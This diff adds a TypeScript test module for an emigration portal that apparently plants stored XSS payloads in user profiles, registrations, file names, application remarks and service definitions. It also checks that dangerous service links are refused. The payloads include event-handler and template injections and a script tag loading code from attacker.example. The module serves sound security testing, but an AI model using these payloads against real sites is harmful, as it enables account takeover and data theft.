@@ -1,0 +1,88 @@
+import {
+  applicationEndpoints,
+  serviceEndpoints,
+  type UserProfile,
+  userEndpoints,
+  writeServiceJson,
+} from '@emigration-portal/shared-api';
+import { by, calling, send } from './call.ts';
+import { PASSWORD } from './people.ts';
+import type { Stage } from './stage.ts';
+
+/** Each calls `owned` where it runs as a script. */
+export const payloads = [
+  `<img src=x onerror="owned('img')">`,
+  `"><svg/onload=owned('svg')>`,
+  `<script>owned('script')</script>`,
+  `</script><script src="//attacker.example/x.js"></script>`,
+  `javascript:owned('url')`,
+  `{{constructor.constructor("owned('template')")()}}`,
+  `<iframe srcdoc="<script>parent.owned('frame')</script>">`,
+  `' onfocus=owned('attribute') autofocus='`,
+] as const;
+
+const [img, svg, script, far, url, template, frame, attribute] = payloads;
+
+/** Stores them wherever a customer or an admin may write something that somebody else reads. */
+export async function plant(
+  { origin, people, upload, save, form }: Stage,
+  found: (what: string) => void,
+): Promise<{ applicationId: number }> {
+  const [owner, admin] = [people.person('owner'), people.person('admin')];
+  const profile = await people.call<UserProfile>(owner.token, userEndpoints.getUser, { id: owner.id });
+  const { version: _, ...own } = profile;
+  await people.call(owner.token, userEndpoints.updateProfile, {
+    ...own,
+    middleName: img.slice(0, 60),
+    companyName: svg,
+    stateProvince: script.slice(0, 60),
+    cityDistrict: url,
+    alternateAddress: far,
+  });
+  await people.call(undefined, userEndpoints.register, {
+    firstName: img.slice(0, 50),
+    middleName: script.slice(0, 50),
+    lastName: svg.slice(0, 50),
+    country: 'United Arab Emirates',
+    phone: '+971501239005',
+    email: 'planted@attacker.example',
+    userName: attribute.slice(0, 50),
+    companyName: frame.slice(0, 60),
+    password: PASSWORD,
+  });
+  const file = await upload(owner, `${img.replaceAll(/["<>]/g, "'")}.pdf`);
+  const { id: applicationId } = await save(owner, { file, submitted: true, values: [attribute, frame] });
+  const reviewed = form(owner, { applicationId, file, values: [attribute, frame] });
+  const content = { ...JSON.parse(reviewed.applicationJSON), adminRemarks: template + svg, remarks: template + svg };
+  const review = { ...reviewed, statusId: 3, applicationJSON: JSON.stringify(content) };
+  await people.call(admin.token, applicationEndpoints.addApplication, review);
+  const service = {
+    name: `Service ${img}`,
+    description: script,
+    additionalInstructions: far,
+    serviceCharge: '1',
+    status: 'published' as const,
+    items: [{ required: true, name: svg, type: 'Text' as const }],
+    documents: [
+      {
+        required: true,
+        name: template,
+        type: '.pdf' as const,
+        maxSize: 900,
+        unit: 'KB' as const,
+        instruction: frame,
+        sample: undefined,
+      },
+    ],
+    urls: [{ name: attribute, url: `https://portal.example/?${encodeURIComponent(url)}` }],
+  };
+  for (const link of [url, 'data:text/html,<script>1</script>', ' javascript:1', 'vbscript:1', '//attacker.example']) {
+    const json = JSON.stringify(writeServiceJson({ ...service, name: 'Refused', urls: [{ name: 'x', url: link }] }));
+    const refused = calling(serviceEndpoints.addService, { id: 0, serviceName: 'Refused', serviceJSON: json });
+    const { status } = await send(origin, by(admin.token, refused));
+    if (status !== 400) found(`a service with a link to ${link} is answered ${status}`);
+  }
+  const added = { id: 0, serviceName: service.name, serviceJSON: JSON.stringify(writeServiceJson(service)) };
+  await people.call(admin.token, serviceEndpoints.addService, added);
+  return { applicationId };
+}
